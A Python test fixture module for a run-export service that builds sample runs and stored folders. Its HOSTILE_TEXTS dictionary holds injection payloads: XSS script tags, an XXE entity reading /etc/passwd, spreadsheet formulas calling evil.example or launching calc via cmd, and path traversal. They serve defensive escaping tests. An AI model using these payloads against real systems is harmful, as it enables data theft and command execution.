"""Runs to be exported: ordinary ones, and ones with every text that has ever hurt a format."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

from devserver.my_app.services.exports.port import ExportedFile, ExportedRun
from devserver.my_app.services.media_storage import MediaStorageService
from devserver.my_app.services.run_folders import RunFolders
from devserver.my_app.services.run_id import new_run_id
from devserver.my_app.services.run_metadata import RunMetadata, StageRecord
from tests.media_samples import png_bytes

HOSTILE_TEXTS = {
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "xml_entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e; &amp; ]]> <!--',
    "formula": '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "formula_plus": "+49 170 1234567",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "formula_return": "\r=1+1",
    "formula_wide": "＝1+1",
    "formula_behind_semicolon": 'x;=1+1;"=2+2"; @SUM(A1);',
    "formula_behind_tab": "x\t=1+1\n-2+3\r\n+4\r@5",
    "apostrophe": "'=1+1",
    "apostrophe_behind_semicolon": "x;'=1+1;''",
    "quotes": '"a","b"\r\n;"c"',
    "controls": "a\x01\x02\x08\x0b\x0c\x1b[31m\x7f\x85b",
    "not_characters": "a\ufffe\uffff\U0001fffeb",
    "ends_of_lines": "a\nb\rc\r\nd\u2028e\u2029f\x85g",
    "right_to_left": "\u202eabc\u202c שלום \u2066مرحبا\u2069",
    "combining": "e\u0301\u0301\u0301 👩\u200d🎨 🏳️\u200d🌈",
    "backslashes": "\\u0001 \\n \\\\ C:\\temp",
    "blank": "   \n\t ",
    "path": "../../../etc/passwd",
    "format_string": "{title} %s {0.__class__}",
    "long": "Wiese " * 20_000,
}
LONE_SURROGATES = "a\ud800b\udfff"


def a_stored_run(
    storage: MediaStorageService,
    text: str = "Eine Blume",
    *,
    pictures: int = 1,
    user_id: str | None = "DOE_J",
    is_over: bool = True,
) -> str:
    """The id of a run in its folder, made as the pipeline makes one."""
    run_id = storage.create_run(schema="dada", input_text=text, user_id=user_id).run_id
    step = StageRecord(
        stage=2, step="rewriting", status="transformed", input=text, output=f"keine {text}"
    )
    storage.save_transformed_text(run_id, f"keine {text}", [step])
    for number in range(pictures):
        storage.add_media_from_data(run_id, png_bytes(16 + number, 12))
    if is_over:
        storage.finish_run(run_id, "success" if pictures else "failed")
    return run_id


def a_run(folder: Path, text: str = "Eine Blume", *, media: bytes | None = None) -> ExportedRun:
    """A run that says `text` wherever a text can stand, with a folder under `folder`."""
    run_id = new_run_id()
    place = folder / run_id
    place.mkdir(parents=True)
    data = png_bytes() if media is None else media
    values: dict[str, Any] = {
        "run_id": run_id,
        "user_id": text[:200],
        "workshop": text[:200],
        "timestamp": "2026-03-04T10:15:30.123456+00:00",
        "finished_at": "2026-03-04T10:15:40.000001+00:00",
        "schema": "dada",
        "execution_mode": "eco",
        "safety_level": "kids",
        "status": "success",
        "revision": 7,
        "input_text": text,
        "transformed_text": text,
        "outputs": [
            {
                "type": "image",
                "filename": "output_image.png",
                "backend": "comfyui",
                "config": "sd35_large",
                "file_size_bytes": len(data),
                "format": "png",
                "mime_type": "image/png",
                "width": 16,
                "height": 12,
                "sha256": hashlib.sha256(data).hexdigest(),
                "seed": 42,
                "model": text[:200],
                "created_at": "2026-03-04T10:15:39+00:00",
                "details": {"note": text, text[:50]: [1, True, None, {"deep": text}]},
                "unknown_to_us": text,
            }
        ],
        "stages": [
            {
                "stage": 2,
                "step": "rewriting",
                "status": "transformed",
                "input": text,
                "output": text,
                "started_at": "2026-03-04T10:15:31+00:00",
                "duration_seconds": 0.25,
                "details": {"reason": text},
            },
            {
                "stage": 4,
                "step": "media",
                "status": "done",
                "started_at": "2026-03-04T10:15:32+00:00",
            },
        ],
        "request": {"output_configs": ["sd35_large"], "seed": 42, "language": "de"},
        "jobs": [
            {"backend": "comfyui", "server": "http://c", "workflow": "workflow.json", "made": 1}
        ],
        "attempts": 1,
        "warnings": [text],
        "error": {"code": "partly", "message": text, "stage": 4},
        "metadata_version": 1,
        "a_key_of_tomorrow": {"text": text},
    }
    written = json.dumps(values).encode()
    files = {
        "metadata.json": written,
        "input_text.txt": text.encode("utf-8", "backslashreplace"),
        "transformed_text.txt": text.encode("utf-8", "backslashreplace"),
        "workflow.json": b"{}",
        "output_image.png": data,
    }
    for name, content in files.items():
        (place / name).write_bytes(content)
    # As it may come from anywhere: what is read from a folder holds no lone surrogate.
    metadata = RunMetadata.model_validate(json.loads(written))
    outputs = {output.filename: output for output in metadata.outputs}
    return ExportedRun(
        metadata,
        tuple(
            ExportedFile(name, place / name, len(content), outputs.get(name))
            for name, content in files.items()
        ),
    )


def contents(folders: RunFolders, run_id: str) -> dict[str, bytes]:
    """Every file of a run's folder."""
    return {entry.name: entry.read_bytes() for entry in folders.path(run_id).iterdir()}
